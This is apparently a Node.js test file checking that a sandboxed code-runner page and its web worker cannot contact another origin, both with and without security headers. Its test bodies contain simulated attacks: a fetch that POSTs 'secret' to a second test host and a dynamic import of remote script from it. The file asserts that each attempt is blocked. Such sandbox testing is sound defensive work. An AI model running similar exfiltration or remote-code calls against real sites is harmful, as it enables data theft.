// What the page may not do, on a host that sends no headers at all.
import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { host } from './hosts.mjs';
import { dist, paste, start, verdict } from './support.mjs';

const bare = await host({}, { folders: { '/': dist } });
const elsewhere = await host({ '/': 'caught' }, { headers: { 'Access-Control-Allow-Origin': '*' } });
const { address, inPage, stop } = await start();
after(async () => {
  await stop();
  await bare.close();
  await elsewhere.close();
});

for (const [name, place] of [
  ['without headers', `${bare.address}/index.html`],
  ['with headers', address],
]) {
  test(`neither the page nor its worker can send anything elsewhere, ${name}`, async () => {
    /** @type {string[]} */
    const answers = [];
    const run = inPage({ goto: false, origins: [bare.address, elsewhere.address] }, async (page) => {
      await page.goto(place);
      await paste(page, 'print(1)\n');
      await verdict(page);
      const [worker] = page.workers();
      const leak = (/** @type {string} */ url) =>
        fetch(url, { method: 'POST', body: 'secret' }).then(
          () => 'sent',
          (error) => error.name,
        );
      answers.push(
        await worker.evaluate(leak, elsewhere.address),
        await page.evaluate(leak, elsewhere.address),
      );
      answers.push(
        await worker.evaluate(
          (url) =>
            import(url).then(
              () => 'ran',
              (error) => error.name,
            ),
          `${elsewhere.address}/x.js`,
        ),
      );
      answers.push(
        await page.evaluate(() => {
          try {
            document.body.innerHTML = '<b>x</b>';
            return 'written';
          } catch (error) {
            return /** @type {Error} */ (error).name;
          }
        }),
      );
    });
    // What was tried is reported on the console, and nothing else.
    await assert.rejects(run, (/** @type {Error} */ error) => {
      assert.doesNotMatch(error.message, /request to|popup|dialog/);
      return true;
    });
    assert.deepEqual(answers, ['TypeError', 'TypeError', 'TypeError', 'TypeError']);
    assert.deepEqual(elsewhere.asked, []);
  });
}
